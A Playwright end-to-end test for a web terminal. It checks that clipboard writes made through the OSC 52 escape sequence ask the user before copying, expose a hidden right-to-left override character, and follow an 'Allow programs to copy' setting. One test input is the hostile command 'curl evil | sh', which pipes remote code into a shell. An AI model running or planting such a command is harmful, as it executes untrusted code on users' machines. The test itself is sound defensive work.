import type { Page } from 'playwright-core';
import t from 'tap';
import { firstPage } from '../support/first-page.ts';
import { typeUntilAnswered } from '../support/page.ts';
import { aPlace } from '../support/running-service.ts';

t.setTimeout(180_000);

/** A line that asks, as a program would, for a text to be copied. */
const asksFor = (text: string): string =>
  `printf '\\033]52;c;%s\\a' ${Buffer.from(text).toString('base64')}; echo done-$((40+2))`;

const clipboardOf = (page: Page): Promise<string> =>
  page.evaluate('navigator.clipboard.readText()') as Promise<string>;

t.test('a program asks before it copies, until its user allows it', async (t) => {
  const visit = await firstPage(t, await aPlace(t));
  if (visit === null) return;
  const { address, page } = visit;
  await page.context().grantPermissions(['clipboard-read', 'clipboard-write'], { origin: address });
  await page.evaluate("navigator.clipboard.writeText('mine')");
  await page.keyboard.press('n');
  await page.getByText('Medium').waitFor();
  await page.getByLabel('Name').fill('copies');
  await page.keyboard.press('Enter');
  await typeUntilAnswered(page, asksFor('curl evil | sh\u202e\n'), /^done-42/);

  const offer = page.locator('.copy-offer');
  await offer.waitFor();
  t.equal(await offer.locator('pre').innerText(), 'curl evil | sh<202E>\n');
  t.match(await offer.innerText(), /16 characters, a line break at its end/);
  t.equal(await clipboardOf(page), 'mine', 'nothing was copied unasked');
  await page.screenshot({ path: '.tap/copy-offer.png' });
  await offer.getByRole('button', { name: 'Dismiss' }).click();
  await offer.waitFor({ state: 'detached' });
  t.equal(await clipboardOf(page), 'mine');

  await typeUntilAnswered(page, `clear; ${asksFor('wanted')}`, /^done-42/);
  await offer.getByRole('button', { name: 'Copy' }).click();
  await offer.waitFor({ state: 'detached' });
  t.equal(await clipboardOf(page), 'wanted');

  const terminal = page.url();
  await page.goto(`${address}/settings`);
  await page.getByLabel('Allow programs to copy').check();
  await page.screenshot({ path: '.tap/copy-setting.png' });
  await page.goto(terminal);
  await page.locator('.xterm').waitFor();
  await page.locator('.xterm-helper-textarea').focus();
  await typeUntilAnswered(page, `clear; ${asksFor('unasked')}`, /^done-42/);
  for (let tries = 0; (await clipboardOf(page)) !== 'unasked'; tries++) {
    if (tries > 200) throw new Error('nothing was copied');
    await page.waitForTimeout(50);
  }
  t.equal(await offer.count(), 0);
});
